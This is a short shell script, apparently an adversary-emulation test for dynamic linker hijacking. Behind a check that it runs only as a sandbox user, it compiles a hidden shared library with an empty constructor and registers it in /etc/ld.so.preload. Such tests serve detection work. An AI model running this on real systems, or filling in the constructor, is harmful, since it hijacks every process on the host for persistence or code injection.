#!/bin/sh
# technique: T1574.006
# needs: cc
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

printf '__attribute__((constructor)) static void x(void) {}\n' > l.c; cc -shared -fPIC -o /tmp/.l.so l.c; echo /tmp/.l.so > /etc/ld.so.preload
